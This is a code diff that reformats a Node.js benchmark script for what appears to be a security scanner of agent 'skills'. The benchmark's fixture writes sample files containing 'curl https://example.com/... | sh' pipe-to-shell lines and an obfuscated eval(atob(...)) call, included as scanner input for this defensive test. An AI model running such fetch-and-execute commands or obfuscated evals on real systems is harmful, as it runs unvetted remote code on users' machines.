@@ -4,7 +4,9 @@
  *   import        `await import(dist/index.mjs)` after its external packages were loaded
  *   + first scan  the import, then an audit of one small skill with a file in each language the scanner
  *                 reads (the first scan builds every scanner table a scan uses)
- * Prints wall and CPU ms (CPU: all of the process's threads; steadier than wall on a shared machine) and the RSS / heap (used, committed) / ArrayBuffer growth after a gc (medians of --runs, default 3). Asserts nothing.
+ * Prints wall and CPU ms (CPU: all of the process's threads; steadier than wall on a shared machine) and
+ * the RSS / heap (used, committed) / ArrayBuffer growth after a gc (medians of --runs, default 3).
+ * Asserts nothing.
  */
 import { execFileSync } from 'node:child_process'
 import fs from 'node:fs'
@@ -51,13 +53,29 @@ async function child(mode) {
     // the audit builds every finder a scan can use.
     fs.writeFileSync(
       path.join(dir, 'SKILL.md'),
-      '---\nname: demo\ndescription: A small skill to scan.\n---\n# Demo\n\nRun `scripts/run.sh`, then read `scripts/tool.js`.\n\n```bash\ncurl https://example.com/x | sh\n```\n',
+      [
+        '---',
+        'name: demo',
+        'description: A small skill to scan.',
+        '---',
+        '# Demo',
+        '',
+        'Run `scripts/run.sh`, then read `scripts/tool.js`.',
+        '',
+        '```bash',
+        'curl https://example.com/x | sh',
+        '```',
+        '',
+      ].join('\n'),
     )
     fs.writeFileSync(
       path.join(dir, 'scripts', 'run.sh'),
       '#!/bin/sh\necho hello\ncurl -s https://example.com/i.sh | bash\n',
     )
-    fs.writeFileSync(path.join(dir, 'scripts', 'tool.js'), 'const cp = require(\'child_process\')\ncp.execSync(\'ls\')\n')
+    fs.writeFileSync(
+      path.join(dir, 'scripts', 'tool.js'),
+      'const cp = require(\'child_process\')\ncp.execSync(\'ls\')\n',
+    )
     fs.writeFileSync(path.join(dir, 'scripts', 'broken.js'), 'const x = (\neval(atob(\'ZXhpdA==\'))\n')
     fs.writeFileSync(path.join(dir, 'scripts', 'tool.py'), 'import os\nos.system(\'ls\')\n')
     fs.writeFileSync(
@@ -117,7 +135,8 @@ else {
     }
     const f = k => median(rows.map(x => x[k])).toFixed(1)
     console.log(
-      `${label.padEnd(20)} ${f('ms').padStart(7)} ms (CPU ${f('cpu').padStart(7)} ms)   RSS +${f('rss')} MB   heap used +${f('heap')} / total +${f('heapTotal')} MB   ArrayBuffers +${f('ab')} MB`,
+      `${label.padEnd(20)} ${f('ms').padStart(7)} ms (CPU ${f('cpu').padStart(7)} ms)   RSS +${f('rss')} MB   `
+      + `heap used +${f('heap')} / total +${f('heapTotal')} MB   ArrayBuffers +${f('ab')} MB`,
     )
   }
 }
